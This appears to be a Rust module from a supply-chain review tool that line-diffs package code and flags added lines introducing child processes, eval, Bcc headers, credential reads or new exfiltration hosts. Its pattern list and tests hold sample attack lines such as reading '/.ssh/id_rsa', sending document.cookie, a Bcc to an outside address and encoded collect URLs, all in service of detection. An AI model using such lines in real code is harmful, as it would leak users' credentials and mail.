//! Offline heuristics on the code of a package: what the **added lines** of a changed
//! (or new) code file introduce that the old version did not have.
//!
//! Two steps, both bounded and deterministic:
//!
//! 1. [`line_diff`]: a Myers shortest-edit-script line diff (common prefix and suffix
//!    trimmed first). Its work is bounded by [`MAX_EDIT_DISTANCE`] and [`MAX_DIFF_WORK`];
//!    past either the diff
//!    falls back to "every new line that does not occur in the old text" (a sound
//!    over-approximation of the added lines: nothing added is missed, moved lines may be
//!    counted). Texts over [`MAX_REVIEW_BYTES`] are not diffed at all: the caller fails
//!    closed (`package-code-not-reviewed`).
//! 2. [`scan_added_code`]: each added line that is not a comment is scanned for
//!    [`CODE_PATTERNS`] (child processes, dynamic code, `bcc`/`cc` headers, reads of the
//!    environment or credentials) and for the exfiltration targets of the description
//!    heuristics (URLs, email addresses, quoted host names, IP addresses, sensitive paths,
//!    base64/hex blobs). A finding counts only when its key is new: not found anywhere in
//!    the old text (a URL counts as known when its host is known; an environment read is
//!    keyed by its variable, so `process.env.HOME` → `process.env.TOKEN` is new).
//!    Not targets in code: a bare scheme (`'file://'`), loopback hosts, `data:` URLs,
//!    unquoted `name.tld` member accesses; setting or deleting a variable is not a read.
//!
//! ```
//! use driftguard_core::classify::heuristics::code::{line_diff, scan_added_code};
//!
//! let old = "send({\n  To: to,\n  Subject: s,\n});\n";
//! let new = "send({\n  To: to,\n  Bcc: 'phan@giftshop.club',\n  Subject: s,\n});\n";
//! let diff = line_diff(old, new);
//! assert_eq!(diff.added, [2]); // 0-based: the third line
//! let lines = scan_added_code(&[old], new, &diff.added);
//! assert_eq!(lines[0].line, 3);
//! assert_eq!(lines[0].findings, ["bcc/cc header \"Bcc\"", "email \"phan@giftshop.club\""]);
//! ```

use std::collections::{BTreeSet, HashMap};

use super::exfiltration::{self, DOMAIN, EMAIL, IP, URL};
use super::text::Folded;
use super::{quote, truncate_chars};

/// Largest text (per side) the review diffs, in bytes.
pub const MAX_REVIEW_BYTES: usize = 8 * 1024 * 1024;

/// Edit distance (in lines, after trimming the common prefix and suffix) up to which
/// the line diff is exact; its trace takes about 8·D² bytes at the bound (32 MB).
pub const MAX_EDIT_DISTANCE: usize = 2000;

/// Steps (diagonal moves and snake extensions) the exact line diff may take before it
/// falls back, so repetitive texts cannot make it quadratic.
pub const MAX_DIFF_WORK: usize = 50_000_000;

/// Longest line text quoted in a receipt, in characters.
pub const MAX_LINE_QUOTE: usize = 200;

/// Kind: a child process is started.
pub const CHILD_PROCESS: &str = "child process";
/// Kind: code is built from data and run.
pub const DYNAMIC_CODE: &str = "dynamic code";
/// Kind: an email header that copies messages to someone else.
pub const MAIL_COPY: &str = "bcc/cc header";
/// Kind: the environment or a credential store is read.
pub const ENV_READ: &str = "environment/credential read";

/// Code patterns, as data: `(kind, pattern)`.
///
/// Pattern syntax: the text to find, matched case-sensitively; a leading `~` makes it
/// ASCII case-insensitive. When it starts with an identifier character, the character
/// before the match must not be one (`a-z A-Z 0-9 _ $`). The end says what must follow:
/// `(` — optional spaces then `(` (a call); `*` — anything (a prefix); `:` — optional
/// quotes, `]` and spaces, then `:` or `=` (a header or key being set); otherwise a
/// non-identifier character (a whole word). Environment reads are keyed with the
/// variable name that follows (`process.env.TOKEN`, `os.environ["TOKEN"]`,
/// `os.getenv("TOKEN")`).
pub static CODE_PATTERNS: &[(&str, &str)] = &[
    // Child processes.
    (CHILD_PROCESS, "child_process"),
    (CHILD_PROCESS, "subprocess"),
    (CHILD_PROCESS, "execSync("),
    (CHILD_PROCESS, "execFileSync("),
    (CHILD_PROCESS, "execFile("),
    (CHILD_PROCESS, "spawnSync("),
    (CHILD_PROCESS, "spawn("),
    (CHILD_PROCESS, "os.system("),
    (CHILD_PROCESS, "os.popen("),
    (CHILD_PROCESS, "os.exec*"),
    (CHILD_PROCESS, "os.spawn*"),
    (CHILD_PROCESS, "pty.spawn("),
    (CHILD_PROCESS, "Deno.run("),
    (CHILD_PROCESS, "Deno.Command("),
    (CHILD_PROCESS, "Bun.spawn*"),
    (CHILD_PROCESS, "shell=True"),
    // Dynamic code.
    (DYNAMIC_CODE, "eval("),
    (DYNAMIC_CODE, "new Function("),
    (DYNAMIC_CODE, "exec("),
    (DYNAMIC_CODE, "vm.runIn*"),
    (DYNAMIC_CODE, "vm.Script("),
    (DYNAMIC_CODE, "__import__("),
    (DYNAMIC_CODE, "importlib.import_module("),
    (DYNAMIC_CODE, "marshal.loads("),
    (DYNAMIC_CODE, "pickle.loads("),
    // Mail copies.
    (MAIL_COPY, "~bcc"),
    (MAIL_COPY, "~cc:"),
    // Environment and credentials.
    (ENV_READ, "process.env"),
    (ENV_READ, "os.environ"),
    (ENV_READ, "os.getenv("),
    (ENV_READ, "Deno.env"),
    (ENV_READ, "homedir("),
    (ENV_READ, "expanduser("),
    (ENV_READ, "document.cookie"),
];

/// File extensions (lowercase, without the dot) whose text is reviewed as code.
pub static CODE_EXTENSIONS: &[&str] = &[
    "js", "mjs", "cjs", "jsx", "ts", "mts", "cts", "tsx", "py", "pyw", "sh", "bash", "zsh", "ps1",
    "bat", "cmd", "rb", "pl", "php", "lua",
];

/// File name endings that look like code but never run (type declarations, source
/// maps): not reviewed.
pub static NON_RUNNING_SUFFIXES: &[&str] = &[".d.ts", ".d.mts", ".d.cts", ".pyi", ".map"];

/// File extensions of native code that cannot be reviewed as text: a change to one is
/// always `package-code-not-reviewed`.
pub static NATIVE_EXTENSIONS: &[&str] = &["node", "so", "dll", "dylib", "pyd", "wasm", "exe"];

fn extension(path: &str) -> Option<String> {
    let file = path.rsplit('/').next().unwrap_or(path);
    file.rsplit_once('.')
        .filter(|(stem, _)| !stem.is_empty())
        .map(|(_, ext)| ext.to_ascii_lowercase())
}

/// True when the file's text is reviewed as code (by extension; files under a `bin/`
/// directory without an extension are scripts too).
pub fn is_code_path(path: &str) -> bool {
    let lower = path.to_ascii_lowercase();
    if NON_RUNNING_SUFFIXES.iter().any(|s| lower.ends_with(s)) {
        return false;
    }
    match extension(path) {
        Some(ext) => CODE_EXTENSIONS.contains(&ext.as_str()),
        None => lower.starts_with("bin/") || lower.contains("/bin/"),
    }
}

/// True when the file is native code (a compiled addon, a shared library, wasm).
pub fn is_native_path(path: &str) -> bool {
    extension(path).is_some_and(|e| NATIVE_EXTENSIONS.contains(&e.as_str()))
}

/// Which lines of the new text are added.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct LineDiff {
    /// 0-based indexes of the added lines in the new text, ascending.
    pub added: Vec<usize>,
    /// How many old lines were removed.
    pub removed: usize,
    /// False when the edit distance passed [`MAX_EDIT_DISTANCE`] and the fallback
    /// ("new lines not in the old text") was used.
    pub exact: bool,
}

/// Lines of a text: split at `\n`, a trailing `\r` dropped (as [`str::lines`]).
fn lines(s: &str) -> Vec<&str> {
    s.lines().collect()
}

/// The added lines of `new` against `old` (see the module docs).
pub fn line_diff(old: &str, new: &str) -> LineDiff {
    let a = lines(old);
    let b = lines(new);
    // Intern lines so comparisons are integer compares.
    let mut ids: HashMap<&str, u32> = HashMap::new();
    let a_ids: Vec<u32> = a.iter().map(|s| intern_line(s, &mut ids)).collect();
    let b_ids: Vec<u32> = b.iter().map(|s| intern_line(s, &mut ids)).collect();
    let prefix = a_ids.iter().zip(&b_ids).take_while(|(x, y)| x == y).count();
    let suffix = a_ids
        .get(prefix..)
        .unwrap_or_default()
        .iter()
        .rev()
        .zip(b_ids.get(prefix..).unwrap_or_default().iter().rev())
        .take_while(|(x, y)| x == y)
        .count();
    let a_mid = a_ids
        .get(prefix..a_ids.len().saturating_sub(suffix))
        .unwrap_or_default();
    let b_mid = b_ids
        .get(prefix..b_ids.len().saturating_sub(suffix))
        .unwrap_or_default();
    match myers(a_mid, b_mid, MAX_EDIT_DISTANCE, MAX_DIFF_WORK) {
        Some(added_mid) => LineDiff {
            removed: a_mid.len() - (b_mid.len() - added_mid.len()),
            added: added_mid.into_iter().map(|i| i + prefix).collect(),
            exact: true,
        },
        None => {
            // Fallback: multiset difference over the middle part.
            let mut counts: HashMap<u32, usize> = HashMap::new();
            for id in a_mid {
                *counts.entry(*id).or_default() += 1;
            }
            let mut added = Vec::new();
            for (i, id) in b_mid.iter().enumerate() {
                match counts.get_mut(id) {
                    Some(n) if *n > 0 => *n -= 1,
                    _ => added.push(i + prefix),
                }
            }
            let kept = b_mid.len() - added.len();
            LineDiff {
                added,
                removed: a_mid.len() - kept,
                exact: false,
            }
        }
    }
}

fn intern_line<'s>(s: &'s str, ids: &mut HashMap<&'s str, u32>) -> u32 {
    let next = u32::try_from(ids.len()).unwrap_or(u32::MAX);
    *ids.entry(s).or_insert(next)
}

/// Myers' O(ND) diff: the indexes of `b` that are inserted, or `None` when the edit
/// distance exceeds `max_d` or the work `max_work` steps.
fn myers(a: &[u32], b: &[u32], max_d: usize, max_work: usize) -> Option<Vec<usize>> {
    let n = isize::try_from(a.len()).ok()?;
    let m = isize::try_from(b.len()).ok()?;
    let max = n + m;
    let limit = max.min(isize::try_from(max_d).ok()?);
    // v[k] for k in -(d+1)..=(d+1), stored at k + d + 1; one snapshot per step.
    let mut v: Vec<isize> = vec![0; usize::try_from(2 * max + 3).ok()?];
    let off = max + 1;
    let at = |v: &Vec<isize>, k: isize| -> isize {
        usize::try_from(k + off)
            .ok()
            .and_then(|i| v.get(i))
            .copied()
            .unwrap_or(0)
    };
    let eq = |x: isize, y: isize| -> bool {
        let (Ok(x), Ok(y)) = (usize::try_from(x), usize::try_from(y)) else {
            return false;
        };
        matches!((a.get(x), b.get(y)), (Some(p), Some(q)) if p == q)
    };
    let mut trace: Vec<Vec<isize>> = Vec::new();
    let mut found = None;
    let mut work: usize = 0;
    'outer: for d in 0..=limit {
        // Snapshot of v over -(d+1)..=(d+1) before step d.
        let lo = usize::try_from(off - d - 1).ok()?;
        let hi = usize::try_from(off + d + 1).ok()?;
        trace.push(v.get(lo..=hi)?.to_vec());
        let mut k = -d;
        while k <= d {
            let mut x = if k == -d || (k != d && at(&v, k - 1) < at(&v, k + 1)) {
                at(&v, k + 1)
            } else {
                at(&v, k - 1) + 1
            };
            let mut y = x - k;
            work += 1;
            while x < n && y < m && eq(x, y) {
                x += 1;
                y += 1;
                work += 1;
            }
            if work > max_work {
                return None;
            }
            if let Some(slot) = usize::try_from(k + off).ok().and_then(|i| v.get_mut(i)) {
                *slot = x;
            }
            if x >= n && y >= m {
                found = Some(d);
                break 'outer;
            }
            k += 2;
        }
    }
    let d_end = found?;
    // Backtrack from (n, m).
    let mut inserted = Vec::new();
    let (mut x, mut y) = (n, m);
    for d in (0..=d_end).rev() {
        let snap = trace.get(usize::try_from(d).ok()?)?;
        let get = |k: isize| -> isize {
            usize::try_from(k + d + 1)
                .ok()
                .and_then(|i| snap.get(i))
                .copied()
                .unwrap_or(0)
        };
        let k = x - y;
        let prev_k = if k == -d || (k != d && get(k - 1) < get(k + 1)) {
            k + 1
        } else {
            k - 1
        };
        let prev_x = get(prev_k);
        let prev_y = prev_x - prev_k;
        while x > prev_x && y > prev_y {
            x -= 1;
            y -= 1;
        }
        if d > 0 {
            if x == prev_x {
                // Moved down: b[prev_y] was inserted.
                inserted.push(usize::try_from(prev_y).ok()?);
            }
            x = prev_x;
            y = prev_y;
        }
    }
    inserted.reverse();
    Some(inserted)
}

/// One added line with what it introduces.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct CodeLine {
    /// 1-based line number in the new text.
    pub line: usize,
    /// The line, made visible and truncated to [`MAX_LINE_QUOTE`] characters.
    pub text: String,
    /// What it introduces, e.g. `email "phan@giftshop.club"`, in line order.
    pub findings: Vec<String>,
}

/// True for a line that is only a comment (`//`; `#` but not `#!`; `/*`, `*` or `<!--`
/// with nothing after a closing `*/` or `-->` on the same line): it does not run, so it
/// is not reviewed (on either side). `/* */ eval(x)` is code.
fn is_comment(line: &str) -> bool {
    let t = line.trim_start();
    if t.starts_with("//") || (t.starts_with('#') && !t.starts_with("#!")) {
        return true;
    }
    let closes = |close: &str| {
        t.find(close)
            .is_none_or(|i| t.get(i + close.len()..).unwrap_or("").trim().is_empty())
    };
    if t.starts_with("/*") || t.starts_with('*') {
        return closes("*/");
    }
    if t.starts_with("<!--") {
        return closes("-->");
    }
    false
}

fn is_ident_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_' || b == b'$'
}

/// One finding on a line: byte offset, (kind, key) for novelty, description.
struct Hit {
    start: usize,
    kind: &'static str,
    key: String,
    also_known_as: Option<String>,
    describe: String,
}

fn find_all(hay: &str, needle: &str, ignore_case: bool) -> Vec<usize> {
    let (h, n) = if ignore_case {
        (hay.to_ascii_lowercase(), needle.to_ascii_lowercase())
    } else {
        (hay.to_owned(), needle.to_owned())
    };
    h.match_indices(&n).map(|(i, _)| i).collect()
}

/// The variable name after an environment read (`.X`, `["X"]`, `.get("X"`, `("X"`).
fn env_variable(rest: &str) -> Option<String> {
    let mut r = rest.trim_start();
    if let Some(x) = r.strip_prefix(".get") {
        r = x;
    }
    let r = r.trim_start_matches(['.', '[', '(', '\'', '"', '`', ' ']);
    let name: String = r
        .chars()
        .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
        .collect();
    (!name.is_empty()).then_some(name)
}

fn pattern_hits(line: &str, out: &mut Vec<Hit>) {
    let bytes = line.as_bytes();
    for (kind, pattern) in CODE_PATTERNS {
        let (ignore_case, pat) = match pattern.strip_prefix('~') {
            Some(p) => (true, p),
            None => (false, *pattern),
        };
        let (needle, tail) = match pat.char_indices().last() {
            Some((i, c @ ('(' | '*' | ':'))) => (pat.get(..i).unwrap_or(pat), Some(c)),
            _ => (pat, None),
        };
        let starts_ident = needle.bytes().next().is_some_and(is_ident_byte);
        for start in find_all(line, needle, ignore_case) {
            let end = start + needle.len();
            if starts_ident && start > 0 && bytes.get(start - 1).copied().is_some_and(is_ident_byte)
            {
                continue;
            }
            let rest = line.get(end..).unwrap_or("");
            let ok = match tail {
                Some('(') => rest.trim_start().starts_with('('),
                Some('*') => true,
                Some(_) => rest
                    .trim_start_matches(['\'', '"', '`', ']', ' '])
                    .starts_with([':', '=']),
                None => !rest.bytes().next().is_some_and(is_ident_byte),
            };
            if !ok {
                continue;
            }
            let mut shown_end = end;
            let mut key = needle.to_ascii_lowercase();
            if *kind == ENV_READ
                && let Some(var) = env_variable(rest)
            {
                let var_end = rest.find(&var).map_or(end, |i| end + i + var.len());
                // Setting or deleting a variable is not reading it (tests do both).
                let after = line.get(var_end..).unwrap_or("").trim_start();
                let after = after
                    .trim_start_matches(['\'', '"', '`', ']', ')'])
                    .trim_start();
                let written = after.starts_with('=') && !after.starts_with("==");
                let deleted = line
                    .get(..start)
                    .unwrap_or("")
                    .trim_end()
                    .ends_with("delete");
                if written || deleted {
                    continue;
                }
                key = format!("{key} {var}");
                shown_end = var_end;
            }
            let shown = line.get(start..shown_end).unwrap_or(needle);
            out.push(Hit {
                start,
                kind,
                key,
                also_known_as: None,
                describe: format!("{kind} \"{}\"", quote(shown)),
            });
        }
    }
}

/// Hosts that never leave the machine.
pub static LOOPBACK_HOSTS: &[&str] = &["localhost", "0.0.0.0", "::1", "[::1]"];

fn is_loopback(host: &str) -> bool {
    let h = host.trim_end_matches('.').to_ascii_lowercase();
    LOOPBACK_HOSTS.contains(&h.as_str()) || h.starts_with("127.") || h.ends_with(".localhost")
}

fn value_hits(line: &str, out: &mut Vec<Hit>) {
    let folded = Folded::new(line);
    for item in exfiltration::items(&folded) {
        // A `data:` URL in code is an inline value, not a place data goes (a long
        // encoded payload in one is still a blob).
        if item.kind == URL && item.key.starts_with("data:") {
            continue;
        }
        // A bare scheme (`'file://'` in a prefix check) names no place, and loopback
        // hosts are not outside the machine.
        if item.kind == URL
            && item
                .key
                .split_once("://")
                .is_some_and(|(_, rest)| rest.is_empty())
        {
            continue;
        }
        let host = item.host.as_deref().unwrap_or(item.key.as_str());
        if matches!(item.kind, URL | IP | DOMAIN) && is_loopback(host) {
            continue;
        }
        if item.kind == DOMAIN {
            // In code, a bare `name.tld` is mostly a member access: only quoted host
            // names count.
            let before = item
                .start
                .checked_sub(1)
                .and_then(|i| folded.lower.as_bytes().get(i))
                .copied();
            if !matches!(before, Some(b'\'' | b'"' | b'`')) {
                continue;
            }
        }
        let (start, _) = folded.original_range(item.start, item.end);
        let original = folded.original_slice(item.start, item.end);
        let host = match item.kind {
            URL => item.host.clone(),
            DOMAIN => Some(item.key.clone()),
            _ => None,
        };
        out.push(Hit {
            start,
            kind: item.kind,
            key: item.key.clone(),
            also_known_as: host,
            describe: format!("{} \"{}\"", item.kind, quote(original)),
        });
    }
}

fn hits(line: &str) -> Vec<Hit> {
    let mut out = Vec::new();
    pattern_hits(line, &mut out);
    value_hits(line, &mut out);
    out.sort_by(|a, b| (a.start, &a.describe).cmp(&(b.start, &b.describe)));
    out
}

/// What an old text already has: the keys of every finding on its non-comment lines.
#[derive(Clone, Debug, Default)]
pub struct Known {
    keys: BTreeSet<(&'static str, String)>,
}

impl Known {
    /// The keys found in `texts`.
    pub fn of(texts: &[&str]) -> Known {
        let mut keys = BTreeSet::new();
        for text in texts {
            for line in text.lines().filter(|l| !is_comment(l)) {
                for hit in hits(line) {
                    if let Some(host) = hit.also_known_as {
                        keys.insert(("host", host));
                    }
                    keys.insert((hit.kind, hit.key));
                }
            }
        }
        Known { keys }
    }
}

/// Reviews the added lines of `new` (0-based indexes from [`line_diff`]) against the
/// old texts in `known` (the old version of the file; for a new file, every old text
/// available): one [`CodeLine`] per added line that introduces something new, in line
/// order. Comment-only lines are skipped on both sides.
pub fn scan_added_code(known: &[&str], new: &str, added: &[usize]) -> Vec<CodeLine> {
    scan_added_code_with(&Known::of(known), new, added)
}

/// [`scan_added_code`] with the old keys computed once ([`Known::of`]), for reviewing
/// several new files against the same old texts.
pub fn scan_added_code_with(known: &Known, new: &str, added: &[usize]) -> Vec<CodeLine> {
    let seen = &known.keys;
    let new_lines = lines(new);
    let mut out = Vec::new();
    for &i in added {
        let Some(line) = new_lines.get(i) else {
            continue;
        };
        if is_comment(line) {
            continue;
        }
        let mut findings = Vec::new();
        for hit in hits(line) {
            let known_host = match (&hit.also_known_as, hit.kind) {
                (Some(host), URL | DOMAIN) => seen.contains(&("host", host.clone())),
                _ => false,
            };
            let known_key = seen.contains(&(hit.kind, hit.key.clone()));
            let known_email = hit.kind == EMAIL && known_key;
            if known_host || known_key || known_email {
                continue;
            }
            findings.push(hit.describe);
        }
        let mut unique = BTreeSet::new();
        findings.retain(|f| unique.insert(f.clone()));
        if !findings.is_empty() {
            out.push(CodeLine {
                line: i + 1,
                text: quote_line(line),
                findings,
            });
        }
    }
    out
}

/// A line as a receipt quotes it: trimmed, made visible, cut at [`MAX_LINE_QUOTE`]
/// characters.
pub fn quote_line(line: &str) -> String {
    super::hidden::visible_inline(&truncate_chars(line.trim(), MAX_LINE_QUOTE))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn added(old: &str, new: &str) -> Vec<usize> {
        line_diff(old, new).added
    }

    #[test]
    fn myers_finds_the_shortest_edit() {
        assert_eq!(added("a\nb\nc\n", "a\nb\nc\n"), Vec::<usize>::new());
        assert_eq!(added("", "x\ny"), [0, 1]);
        assert_eq!(added("a\nb\nc", "a\nx\nb\nc"), [1]);
        assert_eq!(added("a\nb\nc", "c\nb\na"), [1, 2]);
        assert_eq!(added("a\nb\nc\na\nb\nb\na", "c\nb\na\nb\na\nc"), [1, 5]);
        let d = line_diff("a\nb\nc\nd", "a\nc\nx");
        assert_eq!((d.added, d.removed, d.exact), (vec![2], 2, true));
        // CRLF and LF lines are the same lines.
        assert_eq!(added("a\r\nb\r\n", "a\nb\n"), Vec::<usize>::new());
    }

    #[test]
    fn myers_agrees_with_a_brute_force_lcs() {
        // Deterministic pseudo-random small texts over a tiny alphabet.
        let mut seed: u64 = 42;
        let mut next = || {
            seed = seed
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            (seed >> 33) as usize
        };
        for _ in 0..300 {
            let a: Vec<String> = (0..next() % 9).map(|_| (next() % 4).to_string()).collect();
            let b: Vec<String> = (0..next() % 9).map(|_| (next() % 4).to_string()).collect();
            let (old, new) = (a.join("\n"), b.join("\n"));
            let d = line_diff(&old, &new);
            // LCS length by dynamic programming.
            let mut t = vec![vec![0usize; b.len() + 1]; a.len() + 1];
            for i in (0..a.len()).rev() {
                for j in (0..b.len()).rev() {
                    t[i][j] = if a[i] == b[j] {
                        t[i + 1][j + 1] + 1
                    } else {
                        t[i + 1][j].max(t[i][j + 1])
                    };
                }
            }
            assert_eq!(d.added.len(), b.len() - t[0][0], "{old:?} → {new:?}");
            assert_eq!(d.removed, a.len() - t[0][0]);
            // The kept lines of new form a subsequence of old.
            let kept: Vec<&String> = b
                .iter()
                .enumerate()
                .filter(|(i, _)| !d.added.contains(i))
                .map(|(_, l)| l)
                .collect();
            let mut it = a.iter();
            assert!(kept.iter().all(|k| it.any(|x| &x == k)));
        }
    }

    #[test]
    fn over_budget_falls_back_to_lines_not_in_the_old_text() {
        let old: String = (0..3000).map(|i| format!("old {i}\n")).collect();
        let mut new: String = (0..3000).map(|i| format!("new {i}\n")).collect();
        new.push_str("old 7\n");
        let d = line_diff(&old, &new);
        assert!(!d.exact);
        assert_eq!(d.added.len(), 3000);
        assert_eq!(d.removed, 2999);
    }

    #[test]
    fn repetitive_texts_stay_within_the_work_bound() {
        let old = "a\n".repeat(200_000);
        let mut new = String::new();
        for i in 0..200_000 {
            new.push_str("a\n");
            if i % 200 == 100 {
                new.push_str("b\n");
            }
        }
        let started = std::time::Instant::now();
        let d = line_diff(&old, &new);
        assert_eq!((d.added.len(), d.removed), (1000, 0));
        assert!(started.elapsed().as_secs() < 30);
        // With a small work bound the exact diff gives up (and line_diff falls back).
        let ids = |s: &str| -> Vec<u32> { s.lines().map(|l| u32::from(l == "b")).collect() };
        assert_eq!(
            myers(&ids(&old), &ids(&new), MAX_EDIT_DISTANCE, 10_000),
            None
        );
        assert!(myers(&ids(&old), &ids(&new), MAX_EDIT_DISTANCE, MAX_DIFF_WORK).is_some());
    }

    fn review(old: &str, new: &str) -> Vec<(usize, Vec<String>)> {
        let d = line_diff(old, new);
        scan_added_code(&[old], new, &d.added)
            .into_iter()
            .map(|l| (l.line, l.findings))
            .collect()
    }

    #[test]
    fn every_code_pattern_fires_when_added() {
        let samples: &[(&str, &str)] = &[
            ("child_process", "const cp = require('child_process');"),
            ("subprocess", "import subprocess"),
            ("execSync(", "execSync('id')"),
            ("execFileSync(", "execFileSync('sh')"),
            ("execFile(", "execFile ('sh', cb)"),
            ("spawnSync(", "spawnSync('sh')"),
            ("spawn(", "cp.spawn('sh')"),
            ("os.system(", "os.system('id')"),
            ("os.popen(", "os.popen('id')"),
            ("os.exec*", "os.execvp('sh', [])"),
            ("os.spawn*", "os.spawnl(0, 'sh')"),
            ("pty.spawn(", "pty.spawn('/bin/sh')"),
            ("Deno.run(", "Deno.run({cmd})"),
            ("Deno.Command(", "new Deno.Command('sh')"),
            ("Bun.spawn*", "Bun.spawnSync(['sh'])"),
            ("shell=True", "run(cmd, shell=True)"),
            ("eval(", "eval(payload)"),
            ("new Function(", "new Function('return 1')"),
            ("exec(", "exec(code)"),
            ("vm.runIn*", "vm.runInNewContext(src)"),
            ("vm.Script(", "new vm.Script(src)"),
            ("__import__(", "__import__('os')"),
            ("importlib.import_module(", "importlib.import_module(name)"),
            ("marshal.loads(", "marshal.loads(blob)"),
            ("pickle.loads(", "pickle.loads(blob)"),
            ("~bcc", "      Bcc: addr,"),
            ("~cc:", "  headers['CC'] = addr"),
            ("process.env", "const t = process.env.POSTMARK_TOKEN;"),
            ("os.environ", "t = os.environ['TOKEN']"),
            ("os.getenv(", "t = os.getenv('TOKEN')"),
            ("Deno.env", "Deno.env.get('T')"),
            ("homedir(", "path.join(os.homedir(), 'x')"),
            ("expanduser(", "os.path.expanduser('~')"),
            ("document.cookie", "send(document.cookie)"),
        ];
        for (kind, pattern) in CODE_PATTERNS {
            let Some((_, line)) = samples.iter().find(|(p, _)| p == pattern) else {
                panic!("no sample for pattern {pattern}");
            };
            let found = review("function f() {}\n", &format!("function f() {{}}\n{line}\n"));
            assert_eq!(found.len(), 1, "{pattern}: {found:?}");
            assert_eq!(found[0].0, 2, "{pattern}");
            assert!(
                found[0].1.iter().any(|f| f.starts_with(kind)),
                "{pattern}: {found:?}"
            );
            // Already in the old file: nothing new.
            let old = format!("{line}\n");
            assert_eq!(
                review(&old, &format!("{line}\n{line}\n")),
                vec![],
                "{pattern}"
            );
        }
    }

    #[test]
    fn values_fire_when_new_and_not_when_known() {
        let cases: &[(&str, &str)] = &[
            ("email", "to: 'phan@giftshop.club',"),
            ("URL", "fetch('https://giftshop.club/collect')"),
            ("IP address", "connect('45.9.148.3')"),
            ("domain", "const host = 'smtp.giftshop.club';"),
            ("sensitive path", "read(home + '/.ssh/id_rsa')"),
            ("sensitive path", "readFileSync('.npmrc')"),
            (
                "base64 blob",
                "const p = 'aHR0cHM6Ly9naWZ0c2hvcC5jbHViL2NvbGxlY3Q/ZD1hYmNkZWZnaA==';",
            ),
            (
                "hex blob",
                "const k = '68747470733a2f2f67696674736f702e636c75622f636f6c6c656374';",
            ),
        ];
        for (kind, line) in cases {
            let found = review("x = 1\n", &format!("x = 1\n{line}\n"));
            assert_eq!(found.len(), 1, "{line}: {found:?}");
            assert!(
                found[0].1.iter().any(|f| f.starts_with(kind)),
                "{kind}: {found:?}"
            );
            assert_eq!(
                review(&format!("{line}\n"), &format!("{line}\n{line}\n")),
                vec![]
            );
        }
        // A URL on a host the old text already used is not new.
        assert_eq!(
            review(
                "get('https://api.postmarkapp.com/email')\n",
                "get('https://api.postmarkapp.com/email')\nget('https://api.postmarkapp.com/email/batch')\n"
            ),
            vec![]
        );
        // A bare scheme and loopback hosts are not targets.
        assert_eq!(
            review(
                "x\n",
                "x\nif (u.startsWith('file://')) {}\nlisten('http://localhost:3000/mcp')\nconnect('127.0.0.1')\n"
            ),
            vec![]
        );
        // Writing or deleting a variable is not reading it; a data: URL is not a target.
        assert_eq!(
            review(
                "x\n",
                "x\nprocess.env.TEST_VAR = 'v';\ndelete process.env.TEST_VAR;\nos.environ[\"A\"] = \"1\"\nu = `data:text/plain;base64,${b}`\n"
            ),
            vec![]
        );
        assert_eq!(
            review("x\n", "x\nif (process.env.TOKEN === 'a') {}\n"),
            vec![(
                2,
                vec!["environment/credential read \"process.env.TOKEN\"".to_owned()]
            )]
        );
        // A new environment variable is new; the same one is not.
        assert_eq!(
            review(
                "a = process.env.HOME\n",
                "a = process.env.HOME\nb = process.env.HOME\n"
            ),
            vec![]
        );
        assert_eq!(
            review(
                "a = process.env.HOME\n",
                "a = process.env.HOME\nb = process.env.AWS_SECRET\n"
            )
            .len(),
            1
        );
    }

    #[test]
    fn benign_edits_find_nothing() {
        let old = "// Sends an emial through Postmark.\nconst VERSION = '1.0.15';\nconst client = new postmark.ServerClient(process.env.POSTMARK_SERVER_TOKEN);\nmodule.exports = { send };\n";
        let new = "// Sends an email through Postmark.\nconst VERSION = '1.0.16';\nconst client = new postmark.ServerClient(process.env.POSTMARK_SERVER_TOKEN);\nmodule.exports = { send };\n";
        assert_eq!(review(old, new), vec![]);
        // Code after a closed block comment is code.
        assert_eq!(review("a\n", "a\n/* */ eval(x)\n").len(), 1);
        assert_eq!(review("a\n", "a\n * @see eval(x) */ \n").len(), 0);
        // Member accesses are not domains, comments are not code.
        assert_eq!(
            review(
                "a\n",
                "a\nconsole.info(result.data)\n// see https://evil.example.io\n# mail me@evil.io\n"
            ),
            vec![]
        );
    }

    #[test]
    fn code_paths() {
        assert!(is_code_path("index.js") && is_code_path("src/a.MJS") && is_code_path("bin/cli"));
        assert!(is_code_path("pkg/server.py"));
        assert!(
            !is_code_path("README.md") && !is_code_path("index.d.ts") && !is_code_path("a.js.map")
        );
        assert!(!is_code_path("LICENSE") && !is_code_path(".npmignore"));
        assert!(
            is_native_path("build/Release/addon.node")
                && is_native_path("x/_speedups.cpython-311-x86_64-linux-gnu.so")
        );
        assert!(!is_native_path("index.js"));
    }
}
